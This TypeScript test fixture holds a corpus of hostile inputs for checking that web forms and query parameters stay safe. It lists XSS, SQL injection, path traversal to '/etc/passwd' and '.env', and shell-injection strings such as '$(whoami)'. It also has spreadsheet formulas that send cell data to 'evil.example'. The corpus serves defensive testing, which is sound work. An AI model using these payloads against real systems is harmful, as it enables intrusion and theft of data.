/**
 * The hostile-input corpus: values an attacker, a broken client or an unlucky paste would send to any
 * form field or query parameter. Every payload that could run script sets `window.__pwned` or opens a
 * dialog, so a spec notices if one ever executes. Values marked `encoded` are already percent-encoded:
 * a URL carries them as written (and a form stores them as the literal text they are).
 */

export type HostileKind =
  | "long"
  | "blank"
  | "unicode"
  | "markup"
  | "sql"
  | "formula"
  | "header"
  | "path"
  | "prototype"
  | "number"
  | "email"
  | "template"
  | "encoded";

export type HostileInput = { kind: HostileKind; value: string };

/** What every script payload here does when it runs: the tripwire the specs check. */
export const PWNED = "window.__pwned=1";

const groups: Record<HostileKind, string[]> = {
  // Very long values: past every field's limit, a megabyte, multi-byte text whose bytes outnumber its characters.
  long: [
    "a".repeat(201),
    "a".repeat(5_001),
    "a".repeat(10_000),
    "a".repeat(1024 * 1024),
    "é".repeat(10_000),
    "😀".repeat(5_000),
    "<".repeat(10_000),
    "a ".repeat(5_000),
    `${"a".repeat(65)}@example.com`,
    `a@${"b".repeat(250)}.com`,
    "\n".repeat(10_000),
  ],

  // Nothing there: empty, blank, and whitespace that trim() keeps or drops.
  blank: ["", " ", "   ", "\t", "\n", "\r\n", "\r", " \t\r\n ", "\f", "\v", "\u00a0", "\u2003", "\u3000", "\u205f"],

  // Unicode edge cases: direction overrides, invisible characters, combining marks, emoji sequences,
  // lone surrogates, NUL, C0 and C1 controls, line and paragraph separators, BOM, non-characters.
  unicode: [
    "\u202eevil\u202c",
    "invoice\u202egpj.exe",
    "\u2066isolate\u2069",
    "\u200b",
    "a\u200bb",
    "\u200c\u200d",
    "\ufeff",
    "\ufeffname",
    "e\u0301",
    "Z\u0334\u0327\u031b\u0317a\u0338l\u0336g\u0335o\u0337",
    "a" + "\u0300".repeat(500),
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇬🇧",
    "👍🏽",
    "\ud800",
    "\udfff",
    "a\ud83db",
    "\u0000",
    "a\u0000b",
    "\u0001",
    "\u0007",
    "\u0008",
    "\u001b[31mred\u001b[0m",
    "\u007f",
    "\u0080",
    "\u0085",
    "\u009b",
    "\u2028",
    "\u2029",
    "line\u2028break",
    "\ufffd",
    "\uffff",
    "\u{10ffff}",
    "\u{e0001}\u{e0065}",
    "ｆｕｌｌｗｉｄｔｈ",
    "İstanbul",
    "ﬁle",
    "раураl",
    "\u3164",
    "𝐀𝐁𝐂",
    "Straße",
    "𠜎",
    "مرحبا",
    "שָׁלוֹם",
    "日本語のテキスト",
  ],

  // HTML and script injection: tags, event handlers, javascript: URLs, SVG, breaking out of attributes,
  // of <textarea>/<title>, and of the inline <script> that carries React's payload.
  markup: [
    `<script>${PWNED}</script>`,
    `<SCRIPT>${PWNED}</SCRIPT>`,
    `<img src=x onerror="${PWNED}">`,
    `<img src=x onerror=alert(1)>`,
    `<svg onload=${PWNED}>`,
    `<svg><script>${PWNED}</script></svg>`,
    `"><script>${PWNED}</script>`,
    `'><img src=x onerror=${PWNED}>`,
    `" autofocus onfocus="${PWNED}`,
    `' onmouseover='${PWNED}`,
    `javascript:${PWNED}`,
    `JaVaScRiPt:alert(1)`,
    `java\tscript:${PWNED}`,
    `data:text/html,<script>${PWNED}</script>`,
    `<iframe src="javascript:${PWNED}"></iframe>`,
    `<a href="javascript:${PWNED}">click</a>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${PWNED}>`,
    `<details open ontoggle=${PWNED}>`,
    `<input autofocus onfocus=${PWNED}>`,
    `<body onload=${PWNED}>`,
    `<object data="javascript:${PWNED}"></object>`,
    `<base href="//evil.example/">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${PWNED}">`,
    `<form action="javascript:${PWNED}"><button>go</button></form>`,
    `</textarea><script>${PWNED}</script>`,
    `</title><script>${PWNED}</script>`,
    `</script><script>${PWNED}</script>`,
    `\u2028</script><script>${PWNED}</script>`,
    `<!--<script>${PWNED}</script>-->`,
    `<![CDATA[<script>${PWNED}</script>]]>`,
    `<scr<script>ipt>${PWNED}</scr</script>ipt>`,
    `&lt;script&gt;${PWNED}&lt;/script&gt;`,
    `&#x3C;script&#x3E;${PWNED}&#x3C;/script&#x3E;`,
    `<style>*{display:none}</style>`,
    `<b>bold</b>`,
    `"};${PWNED};//`,
    `<div dangerouslySetInnerHTML={{__html:"<img src=x onerror=${PWNED}>"}}>`,
  ],

  // SQL injection, and the LIKE wildcards and escapes a search passes to the database.
  sql: [
    "' OR '1'='1",
    "' OR 1=1 --",
    `'; DROP TABLE "Contact"; --`,
    `" OR ""="`,
    "1; SELECT pg_sleep(5) --",
    `' UNION SELECT refresh_token FROM "Account" --`,
    "admin'--",
    "') OR ('a'='a",
    "'||(SELECT sqlite_version())||'",
    "' ; ATTACH DATABASE '/tmp/pwned.db' AS pwned; --",
    "$$; DROP TABLE x; $$",
    "E'\\x00'",
    "%",
    "_",
    "\\",
    "%%",
    "%_%",
    "\\%",
    "[a-z]",
    "*",
    "$1",
    "?",
  ],

  // CSV and spreadsheet formula injection: cells a spreadsheet would run if a value were exported as is.
  formula: [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
    'DDE ("cmd";"/C calc";"!A0")A0',
    "＝1+1",
    '"=1+1"',
    ",=1+1",
    ";=1+1",
    "a,b",
    '"a""b"',
    '"unterminated',
    "a\nb",
    "a\r\nb",
  ],

  // Mail header injection: a line break (or what a client may read as one) followed by a new header.
  header: [
    "hello\r\nBcc: victim@evil.example",
    "hello\nBcc: victim@evil.example",
    "hello\rBcc: victim@evil.example",
    "hello%0d%0aBcc: victim@evil.example",
    "=?utf-8?q?hello=0D=0ABcc:_victim@evil.example?=",
    "=?UTF-8?B?aGVsbG8NCkJjYzogdmljdGltQGV2aWwuZXhhbXBsZQ==?=",
    "hello\u0085Bcc: victim@evil.example",
    "hello\u2028Bcc: victim@evil.example",
    "a@example.com\r\nBcc: victim@evil.example",
    "a@example.com>, <victim@evil.example",
    '"a@example.com" <victim@evil.example>',
    "Subject: hi\r\n\r\nbody",
    "Content-Type: text/html\r\n\r\n<script>x</script>",
    "a@example.com%0aBcc:victim@evil.example",
  ],

  // Path traversal and other-origin URLs, for anything used as a path, a file name or a redirect.
  path: [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "..%c0%af..%c0%afetc/passwd",
    "\\\\evil.example\\share",
    "/dev/zero",
    "CON",
    "aux.txt",
    ".env",
    "../.local-secrets.json",
    "//evil.example",
    "/\\evil.example",
    "https://evil.example",
    "/%2F%2Fevil.example",
    "/.//evil.example",
  ],

  // Prototype pollution and JSON shapes: names a lookup table or a parser might treat specially.
  prototype: [
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "valueOf",
    "hasOwnProperty",
    "__defineGetter__",
    '{"__proto__":{"polluted":true}}',
    '{"constructor":{"prototype":{"polluted":true}}}',
    "[]",
    "{}",
    "null",
    "undefined",
    "true",
    "[object Object]",
    "__proto__[polluted]=1",
    "constructor.prototype.polluted",
    '"',
  ],

  // Number edge cases for numeric parameters (page numbers, dates, sizes).
  number: [
    "-1",
    "0",
    "1",
    "1e309",
    "NaN",
    "Infinity",
    "-Infinity",
    "999999999999",
    "9007199254740993",
    "0x10",
    "1.5",
    "-0",
    "+1",
    "01",
    "1e3",
    "1_000",
    "١٢",
    "１",
    " 2 ",
    "2abc",
    "999999",
    "1000000",
    "2147483648",
    "-2147483649",
    "0b11",
    "1,000",
    ".5",
    "00000000000000000001",
  ],

  // Malformed, borderline and internationalised email addresses.
  email: [
    "plainaddress",
    "@example.com",
    "a@",
    "a@b",
    "a@@example.com",
    "a..b@example.com",
    ".a@example.com",
    "a.@example.com",
    "a@-example.com",
    "a@example..com",
    "a@example.com.",
    "a b@example.com",
    '"a b"@example.com',
    "a@[127.0.0.1]",
    "a@localhost",
    "a@münchen.de",
    "a@xn--mnchen-3ya.de",
    "ü@example.com",
    "用户@例子.广告",
    "<a@example.com>",
    "a@example.com,b@example.com",
    "a@example.com;b@example.com",
    "mailto:a@example.com",
    "A.Person+Tag@EXAMPLE.COM",
    "a@b.c",
    "(comment)a@example.com",
    "a\u200b@example.com",
    "a@ex\u0430mple.com",
    "=cmd@example.com",
    "a'b@example.com",
  ],

  // Template and format strings, replacement patterns and shell syntax.
  template: [
    "${7*7}",
    "{{7*7}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%s%s%s%s",
    "%n%n",
    "%x%x",
    "{0}",
    "${process.exit(1)}",
    "{{constructor.constructor('return process')().exit()}}",
    "$&",
    "$'",
    "$`",
    "`whoami`",
    "$(whoami)",
    "; ls -la",
    "| cat /etc/passwd",
    "%(name)s",
    "{name}",
    "@{x}",
  ],

  // Percent-encoded payloads: NUL, CR LF, double encoding, overlong UTF-8, an encoded surrogate, bad escapes.
  encoded: [
    "%00",
    "%0d%0a",
    "%0A",
    "%252e%252e%252f",
    "%25%30%30",
    "%C0%AF",
    "%C0%80",
    "%E0%80%AF",
    "%ED%A0%80",
    "%FF%FE",
    "%",
    "%zz",
    "%u0000",
    "&#0;",
    "\\u0000",
    "\\x00",
    "%2B",
    "%26notice%3Dcreated",
    "%3Cscript%3Ewindow.__pwned%3D1%3C%2Fscript%3E",
    "%253Cscript%253E",
    "%E2%80%AE",
  ],
};

/** Every value once, in group order; a value listed in two groups keeps its first. */
export const HOSTILE_INPUTS: readonly HostileInput[] = (() => {
  const seen = new Set<string>();
  const inputs: HostileInput[] = [];
  for (const [kind, values] of Object.entries(groups) as Array<[HostileKind, string[]]>) {
    for (const value of values) {
      if (seen.has(value)) continue;
      seen.add(value);
      inputs.push({ kind, value });
    }
  }
  return inputs;
})();

/** Query strings that are hostile by shape rather than value: repeated, bracketed, bare or empty names. */
export function hostileQueryShapes(name: string): string[] {
  return [
    `${name}=1&${name}=2`,
    `${name}=&${name}=x`,
    `${name}[]=1`,
    `${name}[0]=1&${name}[1]=2`,
    `${name}[__proto__][polluted]=1`,
    `${name}`,
    `${name}=`,
    `&&${name}=1&&`,
    `=${name}`,
    `${name}=1;${name}=2`,
    `${name}%00=1`,
    `${name.toUpperCase()}=1`,
  ];
}

/** A short, printable name for a value in test titles and failure messages. */
export function describeHostile(value: string): string {
  const shown = JSON.stringify(value.length > 40 ? value.slice(0, 40) : value);
  return value.length > 40 ? `${shown}… (${value.length.toLocaleString("en")} chars)` : shown;
}

/** Whether a value is one of the already percent-encoded kind, to put in a URL as written. */
export const isPercentEncoded = (input: HostileInput) => input.kind === "encoded";
